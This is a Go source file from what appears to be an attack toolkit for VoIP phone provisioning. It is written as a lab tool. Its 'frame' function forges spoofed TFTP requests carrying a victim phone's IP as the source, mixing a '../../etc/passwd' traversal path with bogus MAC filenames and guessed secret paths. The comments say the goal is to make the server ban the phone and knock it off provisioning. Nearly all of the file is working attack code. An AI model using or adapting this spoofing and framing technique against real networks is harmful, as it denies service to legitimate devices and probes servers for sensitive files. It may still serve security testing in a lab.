package phone

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"net/url"
	"time"
)

// UDPFramer forges TFTP requests that look as if a provisioned phone sent
// them (its address as the source, from a raw socket), each one a refusal
// that would strike the phone's address: a bad path, an unknown MAC, a
// guessed secret path. Enough of them would ban the phone, knocking it off
// its provisioning. It then asks the server once from its own address, so
// the lab sees that the server answered it.
const UDPFramer = "udp-framer"

// framedRequests is how many datagrams the framer forges: several times
// any max_retry a lab uses.
const framedRequests = 30

// frame forges framedRequests TFTP requests from a.Frame to the server.
func (a *Attacker) frame(ctx context.Context, r *Attack, p *Profile, tmac net.HardwareAddr) error {
	victim, err := netip.ParseAddr(a.Frame)
	if err != nil {
		return fmt.Errorf("%s: -frame %q: want the phone's IPv4 address", a.Role, a.Frame)
	}
	server, err := tftpServer(a.TFTP)
	if err != nil {
		return err
	}
	names := []string{"../../etc/passwd", "", randHex()[:24] + "/" + randHex()[:24] + "/" + macFile(p, tmac)}
	for i := range framedRequests {
		names[1] = macFile(p, neighbour(tmac, 100+i))
		src := netip.AddrPortFrom(victim, uint16(20000+i))
		if err := ForgeUDP(src, server, TFTPReadRequest(names[i%len(names)])); err != nil {
			return err
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(10 * time.Millisecond):
		}
	}
	a.log().Info("forged TFTP requests", "from", victim.String(), "count", framedRequests)
	c := a.client(p, "")
	c.Get(ctx, a.TFTP+macFile(p, neighbour(tmac, 99)))
	r.Requests = append(r.Requests, c.Log...)
	return nil
}

// tftpServer is the address and port of a tftp:// base URL.
func tftpServer(base string) (netip.AddrPort, error) {
	u, err := url.Parse(base)
	if err != nil || u.Scheme != "tftp" {
		return netip.AddrPort{}, fmt.Errorf("-tftp %q: want tftp://ADDRESS/", base)
	}
	ip, err := netip.ParseAddr(u.Hostname())
	if err != nil {
		return netip.AddrPort{}, fmt.Errorf("-tftp %q: want tftp://ADDRESS/", base)
	}
	return netip.AddrPortFrom(ip, 69), nil
}
